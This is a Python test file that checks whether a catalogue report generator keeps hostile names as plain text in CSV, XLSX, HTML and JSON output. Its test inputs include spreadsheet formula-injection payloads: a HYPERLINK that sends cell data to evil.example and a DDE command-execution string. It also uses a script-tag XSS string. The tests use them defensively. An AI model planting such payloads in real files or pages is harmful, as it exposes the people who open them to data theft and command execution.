"""Hostile names in the department's report: text in every format, never a formula, exact.

The catalogue's own text reaches the report as row names (former districts), product and
producer names (watch-list, evidence) and what the state store holds of each listing (its URL).
Each case puts one hostile text there and reads every format back.
"""

from __future__ import annotations

import csv
import io
import json
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.cell import WriteOnlyCell

from ocop.cells import (
    FORMULA_STARTS,
    csv_text,
    from_csv_text,
    looks_like_formula,
    read_cell,
    text_cell,
)
from ocop.loading import load_catalog
from ocop.report import Report, build_report, render
from ocop.report.xlsx_rows import LongSheet, splice
from ocop.state import ListingRecord
from tests.report.conftest import (
    AS_OF,
    CATALOG_YAML,
    LISTINGS,
    OBSERVATIONS,
    PRODUCTS,
    REFERENCE,
)

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example/?"&A1,"bấm")',
    "+84 912 345 678",
    "-2+3",
    "@SUM(A1:A9)",
    "=cmd|' /C calc'!A0",
    "＝1+1",  # full-width equals: a formula in East-Asian input modes
    "#N/A",
    "'=already quoted",
    "Chè _x0041_ có gạch dưới",
    "Chè <Tân Cương> & Trà",  # markup characters, escaped in the long lists' spliced XML
    " Chè có khoảng trắng ",  # spaces at both ends, kept
]


def _report(tmp_path: Path, district: str, product: str, url: str = "") -> Report:
    text = CATALOG_YAML.replace("{products}", "".join(PRODUCTS))
    text = text.replace("old_district: Huyện Ba Bể", f"old_district: {json.dumps(district)}")
    text = text.replace("name: Sản phẩm che", f"name: {json.dumps(product)}")
    path = tmp_path / "catalog.yaml"
    path.write_text(text, encoding="utf-8")
    catalog = load_catalog(path, as_of=AS_OF)
    listings = list(LISTINGS)
    if url:  # on the listing no crawl has seen (GONE-1), so the report shows the state's URL
        gone = next(n for n, item in enumerate(listings) if item.sku == "GONE-1")
        old = listings[gone]
        listings[gone] = ListingRecord(*(url if f == "url" else getattr(old, f) for f in _FIELDS))
    seen = {(o.marketplace, o.sku): o for o in OBSERVATIONS}
    return build_report(catalog, listings, seen, as_of=AS_OF, reference_time=REFERENCE)


_FIELDS = list(ListingRecord.__dataclass_fields__)


@pytest.mark.parametrize("name", HOSTILE)
def test_csv_quotes_what_a_spreadsheet_would_run(name: str, tmp_path: Path) -> None:
    data = render(_report(tmp_path, name, "Chè"), "csv", "vi").decode("utf-8-sig")
    rows = [row for row in csv.reader(io.StringIO(data)) if row and row[0] == "district"]
    assert [from_csv_text(row[2]) for row in rows if from_csv_text(row[1]) == name] == [name]
    for row in csv.reader(io.StringIO(data)):
        for field in row:
            assert not field or field[0] not in FORMULA_STARTS, field


@pytest.mark.parametrize("name", HOSTILE)
def test_xlsx_holds_text_never_a_formula(name: str, tmp_path: Path) -> None:
    data = render(_report(tmp_path, name, name), "xlsx", "vi")
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert not any(b"<f>" in archive.read(n) or b't="e"' in archive.read(n) for n in sheets)
    book = load_workbook(io.BytesIO(data), read_only=True)
    found = [
        read_cell(cell)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type == "s" and read_cell(cell) == name
    ]
    assert len(found) >= 2  # a former district's row, and the product in the watch-list/evidence
    # each such cell, the long lists' spliced rows included, keeps its quote prefix: edited in
    # Excel or Calc it stays text
    cells = [
        c for s in load_workbook(io.BytesIO(data)).worksheets for r in s.iter_rows() for c in r
    ]
    quoted = {c.quotePrefix for c in cells if c.data_type == "s" and read_cell(c) == name}
    assert quoted == {looks_like_formula(name)}


def test_a_control_character_from_a_marketplace_does_not_break_the_workbook(
    tmp_path: Path,
) -> None:
    report = _report(tmp_path, "Huyện Ba Bể", "Chè", url="https://voso.example/p/\x07che\x00")
    book = load_workbook(io.BytesIO(render(report, "xlsx", "vi")), read_only=True)
    urls = [c.value for s in book.worksheets for r in s.iter_rows() for c in r if c.value]
    assert "https://voso.example/p/\ufffdche\ufffd" in urls


def test_html_and_json_show_the_names_as_they_are(tmp_path: Path) -> None:
    name = '<script>alert("x")</script>=1+1'
    report = _report(tmp_path, name, name)
    page = render(report, "html", "vi").decode("utf-8")
    assert "<script>" not in page and "&lt;script&gt;" in page
    assert name in render(report, "json", "vi").decode("utf-8").replace('\\"', '"')


@given(st.text())
def test_csv_text_comes_back_exactly(text: str) -> None:
    field = csv_text(text)
    assert from_csv_text(field) == text
    assert not field or field[0] not in FORMULA_STARTS


# Text as the catalogue holds it: no control characters (the loader refuses them) and line
# breaks as \n (YAML reads every line break as one); XML would read a lone \r as \n.
CATALOGUE_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs", "Cc"), whitelist_characters="\t\n"),
    min_size=1,
)


@given(CATALOGUE_TEXT)
def test_xlsx_text_comes_back_exactly(text: str) -> None:
    book = Workbook()
    text_cell(book.active["A1"], text)
    out = io.BytesIO()
    book.save(out)
    again = load_workbook(io.BytesIO(out.getvalue()), read_only=True)
    (cell,) = next(again.active.iter_rows())
    assert cell.data_type == "s" and read_cell(cell) == text


SOFFICE = shutil.which("soffice")


@pytest.mark.slow
@pytest.mark.skipif(SOFFICE is None, reason="LibreOffice is not installed (libreoffice-calc)")
def test_libreoffice_shows_the_names_as_text(tmp_path: Path) -> None:
    name = '=HYPERLINK("http://evil.example/","bấm")'
    book = tmp_path / "report.xlsx"
    book.write_bytes(render(_report(tmp_path, name, name), "xlsx", "vi"))
    sheet_csv = tmp_path / "report.csv"
    sheet_csv.write_bytes(render(_report(tmp_path, name, name), "csv", "vi"))
    out = tmp_path / "out"
    csv_filter = "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,false,true,false,false,false,-1"
    for source in (book, sheet_csv):
        subprocess.run(
            [str(SOFFICE), f"-env:UserInstallation={(tmp_path / 'lo').as_uri()}", "--headless",
             "--convert-to", csv_filter, "--outdir", str(out / source.suffix[1:]), str(source)],
            check=True, capture_output=True, timeout=180,
        )  # fmt: skip
    seen = "\n".join(p.read_text(encoding="utf-8") for p in out.rglob("*.csv"))
    assert re.search(r"HYPERLINK\(\"\"http://evil\.example/\"\",\"\"bấm\"\"\)", seen), seen[:500]
    assert "bấm\n" not in seen  # a formula would have shown its result, the word alone


def test_a_hostile_text_in_a_shared_string_column_comes_back_as_text() -> None:
    # a "word" column (a marketplace, a code in words) is written as shared strings: the same
    # rules as an inline cell's, so a text starting like a formula keeps its quote prefix
    book = Workbook(write_only=True)
    sheet = book.create_sheet("words")
    sheet.append(["title"])
    sheet.append(["header"])
    quoted = WriteOnlyCell(sheet, "x")
    quoted.quotePrefix = True
    style = quoted.style_id  # the quote-prefix style, registered with the workbook
    out = io.BytesIO()
    book.save(out)
    values = [*HOSTILE, None, "", *HOSTILE]  # each text twice: written once in the table
    words = LongSheet(1, [values], ["word"], [0], style)
    data = splice(out.getvalue(), [words])
    read = load_workbook(io.BytesIO(data))["words"]
    cells = [row[0] for row in read.iter_rows(min_row=3, max_row=2 + len(values))]
    assert [read_cell(c) if c.value is not None else None for c in cells] == [
        v or None for v in values
    ]
    assert [c.quotePrefix for c in cells if c.value] == [looks_like_formula(v) for v in values if v]
    shared = zipfile.ZipFile(io.BytesIO(data)).read("xl/sharedStrings.xml").decode()
    assert shared.count("<si>") == len(HOSTILE) - 1  # "_x0041_" is written inline
